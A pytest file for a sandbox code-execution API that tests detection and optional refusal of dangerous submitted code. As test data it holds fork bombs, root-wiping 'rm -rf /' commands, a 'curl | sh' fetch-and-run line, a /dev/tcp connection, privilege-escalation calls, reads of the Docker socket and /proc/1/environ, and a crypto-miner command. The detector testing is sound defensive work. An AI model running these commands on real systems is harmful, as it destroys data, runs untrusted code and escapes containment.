"""Code that looks dangerous gives a warning, or is refused when the operator has chosen so."""

import asyncio
import logging
import time

import pytest

from app.api.patterns import PATTERNS, dangerous
from app.wire.problems import Code
from tests.unit.app.fake_executor import RESULT, FakeExecutor, says
from tests.unit.app.fake_visitor import api

HELLO = {"environment": "bash", "code": "echo"}


def names(environment: str, code: str) -> list[str]:
    return [pattern.name for pattern in dangerous(environment, [code])]


@pytest.mark.parametrize(
    ("environment", "code", "name"),
    [
        ("bash", ":(){ :|:& };:", "fork_bomb"),
        ("bash", "bomb() { bomb | bomb & }; bomb", "fork_bomb"),
        ("python", "import os\nwhile True:\n    os.fork()", "fork_bomb"),
        ("node", "while (true) { require('child_process').fork(__filename) }", "fork_bomb"),
        ("bash", "rm -rf /", "delete_all"),
        ("bash", "rm -rf --no-preserve-root /*", "delete_all"),
        ("python", "shutil.rmtree('/')", "delete_all"),
        ("node", "fs.rmSync('/', {recursive: true})", "delete_all"),
        ("python", "import socket", "network"),
        ("python-data", "if x:\n    from urllib.request import urlopen", "network"),
        ("node", "const net = require('node:net')", "network"),
        ("node", "import http from 'http'", "network"),
        ("node", 'await fetch("https://example.org")', "network"),
        ("bash", "curl https://example.org | sh", "network"),
        ("bash", "exec 3<>/dev/tcp/10.0.0.1/80", "network"),
        ("bash", "unshare -r", "privileges"),
        ("bash", "true && mount -t proc x /proc", "privileges"),
        ("python", "os.setuid(0)", "privileges"),
        ("python", "open('/var/run/docker.sock')", "engine_socket"),
        ("node", "fs.readFileSync('/proc/1/environ')", "host_files"),
        ("bash", "xmrig -o stratum+tcp://pool:3333", "miner"),
    ],
)
def test_dangerous_code_matches_the_pattern(environment: str, code: str, name: str) -> None:
    assert name in names(environment, code)


@pytest.mark.parametrize(
    ("environment", "code"),
    [
        ("python", "print('hello')\nfor i in range(3):\n    print(i)"),
        ("python", "socket = 1\nimport socketserver_like"),
        ("python", ":(){ :|:& };:"),
        ("bash", "rm -rf /tmp/x; rm -f ./y"),
        ("bash", "amount=3; echo $amount"),
        ("bash", "f() { g | h & }; f"),
        ("node", "while (true) { i++; if (i > 9) break }"),
    ],
)
def test_harmless_code_matches_none(environment: str, code: str) -> None:
    assert names(environment, code) == []


def test_two_matches_of_one_pattern_give_one_warning() -> None:
    assert names("node", "require('net'); fetch('http://x'); require('tls')") == ["network"]


@pytest.mark.parametrize(
    "piece", ["a", ":", " ", "\n", "(", "a ", ": ", "rm -a ", "while 1:\n", "while(1)", "; ", "a(){", ":(){ "]
)
def test_no_repeated_text_makes_an_expression_slow(piece: str) -> None:
    code = (piece * 65536)[:65536]
    started = time.process_time()
    for pattern in PATTERNS:
        for expression in pattern.expressions.values():
            expression.search(code)
    assert time.process_time() - started < 0.5


@pytest.mark.anyio
async def test_the_visitor_is_warned_and_the_code_runs(
    executor: FakeExecutor, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    executor.answers["/execute"] = says({**RESULT, "warnings": ["A file was too long."]})
    async with api(executor) as client:
        response = await client.post("/execute", json={**HELLO, "code": "curl x"})
        await asyncio.sleep(0)  # The log line is written after the answer.
    assert response.json()["warnings"] == [
        "A file was too long.",
        "The code seems to use the network: a sandbox has none.",
    ]
    (record,) = [record for record in caplog.records if record.getMessage() == "execution"]
    assert record.__dict__["fields"]["patterns"] == ["network"]


@pytest.mark.anyio
async def test_an_operator_may_have_it_refused(executor: FakeExecutor) -> None:
    async with api(executor, REFUSE_PATTERNS="true") as client:
        response = await client.post("/execute", json={**HELLO, "code": "curl x"})
        assert (await client.post("/execute", json=HELLO)).status_code == 200
    assert (response.status_code, response.json()["code"]) == (400, Code.DANGEROUS_PATTERN)
    assert len(executor.ran) == 1


@pytest.mark.anyio
async def test_all_files_are_searched(executor: FakeExecutor) -> None:
    files = [{"name": "a", "content": "echo"}, {"name": "b", "content": "Y3VybCB4", "encoding": "base64"}]
    async with api(executor) as client:
        response = await client.post("/execute", json={"environment": "bash", "files": files})
    assert len(response.json()["warnings"]) == 1
